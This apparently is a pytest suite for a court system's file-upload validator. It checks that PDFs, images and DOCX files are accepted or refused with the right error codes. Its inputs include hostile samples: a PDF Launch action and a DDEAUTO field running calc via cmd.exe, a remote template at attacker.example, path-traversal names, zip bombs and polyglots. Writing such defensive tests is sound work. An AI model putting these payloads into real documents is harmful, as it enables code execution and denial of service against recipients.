"""The uploads engine on generated files: each accepted kind, and each refusal with its code."""

from __future__ import annotations

import dataclasses
import io
import struct
import zipfile
import zlib

import pytest
from tests.engines.uploads import files

from smartcourt.engines.uploads import (
    EICAR,
    ActiveContentError,
    ArchiveBombError,
    CorruptFileError,
    EicarScanner,
    EmptyFileError,
    EncryptedFileError,
    ExtensionMismatchError,
    ExternalReferenceError,
    FileTooLargeError,
    ImageTooLargeError,
    PolyglotError,
    UnsafePathError,
    UnsupportedTypeError,
    UploadError,
    UploadKind,
    VirusDetectedError,
    default_policy,
    inspect_upload,
)


def _png_with_size(width: int, height: int) -> bytes:
    """A PNG whose IHDR claims ``width``×``height`` with a tiny (invalid for that size) data stream."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    idat = zlib.compress(b"\x00" * 64)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


# ------------------------------------------------------------------------------------------ accepted


def test_pdf_is_accepted_with_its_page_count() -> None:
    data = files.pdf(pages=3)
    result = inspect_upload(data, filename="起诉状.pdf")
    assert (result.kind, result.media_type, result.page_count, result.width) == (
        UploadKind.PDF,
        "application/pdf",
        3,
        None,
    )
    assert result.size == len(data)


@pytest.mark.parametrize(
    ("fmt", "name", "kind"),
    [
        ("JPEG", "a.JPG", UploadKind.JPEG),
        ("JPEG", "a.jpeg", UploadKind.JPEG),
        ("PNG", "a.png", UploadKind.PNG),
    ],
)
def test_images_are_accepted_with_their_pixel_size(fmt: str, name: str, kind: UploadKind) -> None:
    result = inspect_upload(files.image(fmt, (40, 30)), filename=name)
    assert (result.kind, result.width, result.height, result.page_count) == (kind, 40, 30, None)


def test_docx_is_accepted() -> None:
    result = inspect_upload(files.document(), filename="证据目录.docx")
    assert (result.kind, result.extension, result.page_count) == (UploadKind.DOCX, "docx", None)


def test_sha256_is_of_the_bytes() -> None:
    import hashlib

    data = files.image("PNG")
    assert inspect_upload(data, filename="x.png").sha256 == hashlib.sha256(data).hexdigest()


# --------------------------------------------------------------------------------- generic refusals


def test_empty_file() -> None:
    with pytest.raises(EmptyFileError) as info:
        inspect_upload(b"", filename="a.pdf")
    assert info.value.code == "empty_file"


def test_unknown_content_is_refused_whatever_the_name() -> None:
    with pytest.raises(UnsupportedTypeError) as info:
        inspect_upload(b"GIF89a" + b"\x00" * 100, filename="a.png")
    assert info.value.code == "unsupported_type"
    assert info.value.detail["detected"] == "image/gif"


@pytest.mark.parametrize(
    ("data", "name", "extension"),
    [
        (files.image("PNG"), "scan.jpg", "jpg"),
        (files.image("JPEG"), "scan.png", "png"),
        (files.pdf(), "brief.docx", "docx"),
        (files.document(), "brief.pdf", "pdf"),
        (files.pdf(), "brief", ""),
        (files.pdf(), "brief.pdf.exe", "exe"),
    ],
)
def test_extension_must_agree_with_content(data: bytes, name: str, extension: str) -> None:
    with pytest.raises(ExtensionMismatchError) as info:
        inspect_upload(data, filename=name)
    assert info.value.detail["extension"] == extension


def test_size_limits_are_per_kind_data() -> None:
    data = files.image("PNG")
    policy = dataclasses.replace(
        default_policy(), max_bytes={**default_policy().max_bytes, UploadKind.PNG: 10}
    )
    with pytest.raises(FileTooLargeError) as info:
        inspect_upload(data, filename="a.png", policy=policy)
    assert (info.value.detail["limit"], info.value.detail["kind"]) == (10, "png")
    assert inspect_upload(files.pdf(), filename="a.pdf", policy=policy).kind is UploadKind.PDF


def test_kind_not_allowed_by_policy() -> None:
    policy = dataclasses.replace(default_policy(), allowed=frozenset({UploadKind.PDF}))
    with pytest.raises(UnsupportedTypeError):
        inspect_upload(files.image("PNG"), filename="a.png", policy=policy)


def test_eicar_scanner_hook() -> None:
    data = files.pdf() + b""
    assert inspect_upload(data, filename="a.pdf", scanner=EicarScanner()).kind is UploadKind.PDF
    with pytest.raises(VirusDetectedError) as info:
        inspect_upload(EICAR, filename="eicar.com", scanner=EicarScanner())
    assert info.value.detail["signature"] == "EICAR-Test-File"


# ---------------------------------------------------------------------------------------- polyglots


def test_pdf_after_a_jpeg_is_a_polyglot() -> None:
    with pytest.raises(PolyglotError) as info:
        inspect_upload(files.image("JPEG") + files.pdf(), filename="a.jpg")
    assert info.value.detail["other"] == "PDF"


@pytest.mark.parametrize(("base", "name"), [("PNG", "a.png"), ("JPEG", "a.jpg")])
def test_zip_appended_to_an_image_is_a_polyglot(base: str, name: str) -> None:
    with pytest.raises(PolyglotError) as info:
        inspect_upload(files.image(base) + files.document(), filename=name)
    assert info.value.code == "polyglot"


def test_zip_appended_to_a_pdf_is_a_polyglot() -> None:
    with pytest.raises(PolyglotError):
        inspect_upload(files.pdf() + files.document(), filename="a.pdf")


def test_data_after_pdf_eof_is_refused() -> None:
    with pytest.raises(PolyglotError):
        inspect_upload(files.pdf() + b"<script>" * 200, filename="a.pdf")


def test_pdf_header_inside_a_docx_is_a_polyglot() -> None:
    data = files.rezip(files.document(), add={})
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as target:
        target.writestr("%PDF-1.4 obj", b"x")
        source = zipfile.ZipFile(io.BytesIO(data))
        for info in source.infolist():
            target.writestr(info.filename, source.read(info.filename))
    with pytest.raises(PolyglotError):
        inspect_upload(buffer.getvalue(), filename="a.docx")


def test_png_with_trailing_bytes_is_refused() -> None:
    with pytest.raises(PolyglotError):
        inspect_upload(files.image("PNG") + b"hidden payload", filename="a.png")


# ---------------------------------------------------------------------------------------------- PDF


def test_encrypted_pdf() -> None:
    with pytest.raises(EncryptedFileError):
        inspect_upload(files.pdf(password="secret"), filename="a.pdf")


def test_pdf_with_javascript() -> None:
    with pytest.raises(ActiveContentError) as info:
        inspect_upload(files.pdf(javascript="app.alert('x');"), filename="a.pdf")
    assert "JavaScript" in info.value.message or "JS" in info.value.message


def test_pdf_with_an_escaped_javascript_name() -> None:
    data = files.pdf().replace(b"/Type /Catalog", b"/Type /Catalog /J#61vaScript 1 0 R", 1)
    with pytest.raises(ActiveContentError):
        inspect_upload(data, filename="a.pdf")


def test_pdf_with_launch_action() -> None:
    data = files.pdf().replace(
        b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /Launch /F (calc.exe) >>", 1
    )
    with pytest.raises(ActiveContentError):
        inspect_upload(data, filename="a.pdf")


def test_pdf_with_embedded_file() -> None:
    with pytest.raises(ActiveContentError):
        inspect_upload(files.pdf(attachment=b"MZ payload"), filename="a.pdf")


@pytest.mark.parametrize("cut", [20, 100, 300])
def test_truncated_pdf(cut: int) -> None:
    with pytest.raises(UploadError) as info:
        inspect_upload(files.pdf()[:cut], filename="a.pdf")
    assert info.value.code in {"corrupt_file", "polyglot"}


def test_pdf_page_limit() -> None:
    policy = dataclasses.replace(default_policy(), max_pdf_pages=2)
    with pytest.raises(CorruptFileError):
        inspect_upload(files.pdf(pages=3), filename="a.pdf", policy=policy)


# ------------------------------------------------------------------------------------------- images


def test_20000_square_png_is_refused_before_decoding() -> None:
    with pytest.raises(ImageTooLargeError) as info:
        inspect_upload(_png_with_size(20_000, 20_000), filename="a.png")
    assert (info.value.detail["width"], info.value.detail["height"]) == (20_000, 20_000)


def test_decompression_bomb_by_pixel_count() -> None:
    with pytest.raises(ImageTooLargeError):
        inspect_upload(_png_with_size(19_000, 19_000), filename="a.png")


def test_jpeg_side_limit_read_from_header() -> None:
    policy = dataclasses.replace(default_policy(), max_side=30)
    with pytest.raises(ImageTooLargeError):
        inspect_upload(files.image("JPEG", (40, 10)), filename="a.jpg", policy=policy)


def test_png_header_lies_about_its_data() -> None:
    with pytest.raises(CorruptFileError):
        inspect_upload(_png_with_size(400, 300), filename="a.png")


def test_truncated_jpeg() -> None:
    data = files.image("JPEG", (64, 64))
    with pytest.raises(CorruptFileError):
        inspect_upload(data[: len(data) // 2], filename="a.jpg")


# --------------------------------------------------------------------------------------------- DOCX


def test_docx_with_macros() -> None:
    data = files.rezip(files.document(), add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    with pytest.raises(ActiveContentError):
        inspect_upload(data, filename="a.docx")


def test_docm_content_type() -> None:
    original = files.document()
    types = files.member(original, "[Content_Types].xml").replace(
        b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"
    )
    with pytest.raises(ActiveContentError):
        inspect_upload(files.rezip(original, replace={"[Content_Types].xml": types}), filename="a.docx")


def test_remote_template_is_an_external_reference() -> None:
    rels = (
        b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        b'2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/>'
        b"</Relationships>"
    )
    data = files.rezip(files.document(), add={"word/_rels/settings.xml.rels": rels})
    with pytest.raises(ExternalReferenceError) as info:
        inspect_upload(data, filename="a.docx")
    assert info.value.detail["target"] == "http://attacker.example/t.dotm"


def test_external_hyperlink_is_refused_by_default_and_allowed_by_policy() -> None:
    doc = __import__("docx").Document()
    paragraph = doc.add_paragraph()
    paragraph.part.relate_to(
        "https://example.com/",
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink",
        is_external=True,
    )
    buffer = io.BytesIO()
    doc.save(buffer)
    with pytest.raises(ExternalReferenceError):
        inspect_upload(buffer.getvalue(), filename="a.docx")
    policy = dataclasses.replace(default_policy(), docx_allow_external_hyperlinks=True)
    assert inspect_upload(buffer.getvalue(), filename="a.docx", policy=policy).kind is UploadKind.DOCX


@pytest.mark.parametrize("name", ["../../etc/passwd", "/abs/path.xml", "word\\..\\x.xml", "C:/x.xml"])
def test_path_traversal_names(name: str) -> None:
    data = files.rezip(files.document(), add={name: b"x"})
    with pytest.raises(UnsafePathError) as info:
        inspect_upload(data, filename="a.docx")
    assert info.value.detail["name"] == name


def test_zip_bomb_by_ratio_from_central_directory() -> None:
    data = files.rezip(files.document(), add={"word/media/blank.bin": b"\x00" * (5 * 1024 * 1024)})
    with pytest.raises(ArchiveBombError):
        inspect_upload(data, filename="a.docx")


def test_zip_bomb_by_total_size() -> None:
    data = files.rezip(
        files.document(),
        add={"word/media/big.bin": b"\x00" * (3 * 1024 * 1024)},
        compression=zipfile.ZIP_STORED,
    )
    policy = dataclasses.replace(default_policy(), docx_max_uncompressed=2 * 1024 * 1024)
    with pytest.raises(ArchiveBombError):
        inspect_upload(data, filename="a.docx", policy=policy)


def test_zip_with_too_many_entries() -> None:
    policy = dataclasses.replace(default_policy(), docx_max_entries=5)
    with pytest.raises(ArchiveBombError):
        inspect_upload(
            files.rezip(files.document(), add={f"word/x{i}.txt": b"" for i in range(10)}),
            filename="a.docx",
            policy=policy,
        )


def test_plain_zip_named_docx_is_not_a_document() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("readme.txt", b"hello")
    with pytest.raises(UploadError) as info:
        inspect_upload(buffer.getvalue(), filename="a.docx")
    assert info.value.code in {"corrupt_file", "unsupported_type"}


def test_dde_field_is_active_content() -> None:
    original = files.document()
    body = files.member(original, "word/document.xml").replace(
        b"</w:body>",
        b'<w:p><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p></w:body>',
    )
    with pytest.raises(ActiveContentError):
        inspect_upload(files.rezip(original, replace={"word/document.xml": body}), filename="a.docx")


def test_doctype_in_a_part_is_refused() -> None:
    original = files.document()
    body = (
        b'<?xml version="1.0"?><!DOCTYPE lol [<!ENTITY a "aaaa">]>'
        + files.member(original, "word/document.xml").split(b"?>", 1)[1]
    )
    with pytest.raises(ActiveContentError):
        inspect_upload(files.rezip(original, replace={"word/document.xml": body}), filename="a.docx")


def test_every_error_has_chinese_message_and_field() -> None:
    with pytest.raises(UploadError) as info:
        inspect_upload(files.image("PNG"), filename="a.docx")
    assert info.value.detail["field"] == "file"
    assert info.value.message == "文件扩展名“docx”与文件实际内容（PNG）不一致"


def test_short_active_names_inside_stream_data_are_not_false_positives() -> None:
    from pypdf import PdfWriter
    from pypdf.generic import DecodedStreamObject, NameObject

    writer = PdfWriter()
    page = writer.add_blank_page(width=100, height=100)
    stream = DecodedStreamObject()
    stream.set_data(b"q /JS 1 Tf /XFA Q % bytes of a scanned image may look like names")
    page[NameObject("/Contents")] = writer._add_object(stream)
    buffer = io.BytesIO()
    writer.write(buffer)
    assert inspect_upload(buffer.getvalue(), filename="scan.pdf").page_count == 1


def test_the_word_dde_in_body_text_is_fine() -> None:
    result = inspect_upload(files.document("DDE 公司 INCLUDETEXT 是普通文字"), filename="a.docx")
    assert result.kind is UploadKind.DOCX


def test_object_walk_finds_javascript_and_passes_clean_files() -> None:
    from pypdf import PdfReader

    from smartcourt.engines.uploads._formats import _walk_objects

    with pytest.raises(ActiveContentError):
        _walk_objects(PdfReader(io.BytesIO(files.pdf(javascript="app.alert(1)"))))
    _walk_objects(PdfReader(io.BytesIO(files.pdf(pages=2))))
    marked = files.pdf().replace(b"\n", b"\n% /ObjStm\n", 1)  # forces the walk in inspect_upload
    assert inspect_upload(marked, filename="a.pdf").page_count == 1
